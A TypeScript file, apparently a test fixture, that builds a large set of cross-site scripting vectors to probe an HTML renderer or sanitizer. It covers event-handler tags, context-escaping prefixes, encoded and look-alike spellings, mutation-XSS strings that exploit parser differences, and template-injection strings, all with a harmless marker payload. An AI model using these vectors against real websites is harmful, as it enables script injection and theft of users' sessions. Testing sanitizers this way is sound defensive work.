/** Texts that try to become markup: what has worked somewhere, made systematically, so that no list of names limits it. */

const PAYLOAD = "window.__hit=1"

const TAGS = [
  "a", "audio", "base", "body", "button", "details", "embed", "form", "frameset", "iframe", "img", "input", "isindex",
  "link", "marquee", "math", "meta", "object", "script", "select", "style", "svg", "table", "template", "textarea",
  "title", "video", "x-own",
] // oxfmt-ignore

const HANDLERS = [
  "onload",
  "onerror",
  "onfocus autofocus tabindex=1 onfocus",
  "onmouseover",
  "onanimationstart",
  "onpointerenter",
  "ontoggle open ontoggle",
]

/** An element with a handler that would run by itself, or when looked at. */
const HANDLED = TAGS.flatMap((tag) => HANDLERS.map((handler) => `<${tag} src=x ${handler}=${PAYLOAD}>`))

/** What ends the place that a text might have been put in. */
const EXITS = [
  "", '"', "'", "`", '">', "'>", "-->", "--!>", "]]>", "</title>", "</style>", "</script>", "</textarea>", "</noscript>",
  "</bdi>", "</svg>", "</table>", "</body></html>", "\u2069\u2069", "\n\n",
] // oxfmt-ignore

const OPENERS = [
  `<script>${PAYLOAD}</script>`,
  `<img src=x onerror=${PAYLOAD}>`,
  `<svg><script>${PAYLOAD}</script></svg>`,
  `<svg/onload=${PAYLOAD}>`,
  `<a href="javascript:${PAYLOAD}">x</a>`,
  `<iframe srcdoc="<script>parent.${PAYLOAD}</script>">`,
  ` onload=${PAYLOAD} x="`,
  `<style>@import 'http://127.0.0.1:9/';</style>`,
  `<meta http-equiv=refresh content="0;url=http://127.0.0.1:9/">`,
]

const BROKEN_OUT = EXITS.flatMap((exit) => OPENERS.map((opener) => `${exit}${opener}`))

/** Markup in other spellings: references, other encodings, look-alikes, halves of tags. */
const SPELLED = OPENERS.flatMap((opener) => [
  opener.replaceAll("<", "&lt;").replaceAll(">", "&gt;"),
  opener.replaceAll("<", "&#60;"),
  opener.replaceAll("<", "&#x3c"),
  opener.replaceAll("<", "\\u003c"),
  opener.replaceAll("<", "%3C"),
  opener.replaceAll("<", "+ADw-"),
  opener.replaceAll("<", "\uFF1C"),
  opener.replaceAll("<", "<\u0000"),
  opener.replaceAll("s", "\u017F"),
  opener.toUpperCase(),
  opener.replaceAll(" ", "/"),
  opener.replaceAll(" ", "\t"),
  opener.replaceAll(">", ""),
  opener.split("").join("\u200B"),
])

/** What browsers and cleaners read differently: markup that changes when it is written again. */
const REREAD = [
  '<noscript><p title="</noscript><img src=x onerror=window.__hit=1>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.__hit=1&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=window.__hit=1>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__hit=1>",
  "<![CDATA[<img src=x onerror=window.__hit=1>]]>",
  "<!DOCTYPE x [<!ENTITY y '<script>window.__hit=1</script>'>]>&y;",
  "<?xml-stylesheet href='javascript:window.__hit=1'?>",
  "<xmp><p title='</xmp><img src=x onerror=window.__hit=1>'>",
  "<plaintext><script>window.__hit=1</script>",
  "<listing>\n\n<img src=x onerror=window.__hit=1>",
  "\u202E>1=tih__.wodniw=rorreno x=crs gmi<\u202C",
  "\uFEFF<script>window.__hit=1</script>",
  "\u2028<script>window.__hit=1</script>\u2029",
  "{{constructor.constructor('window.__hit=1')()}}",
  "${window.__hit=1}",
  "javascript:window.__hit=1//",
  "data:text/html,<script>window.__hit=1</script>",
  "\uD800<script>\uDC00window.__hit=1</script>",
  "&", "<", ">", '"', "'", "&amp;", "&#0;", "<!--", "<a", "</", "<!", "&lt", "&notin;", "&#xD800;",
] // oxfmt-ignore

/** Every vector, each once. */
export const VECTORS: ReadonlyArray<string> = Array.from(new Set([...HANDLED, ...BROKEN_OUT, ...SPELLED, ...REREAD]))
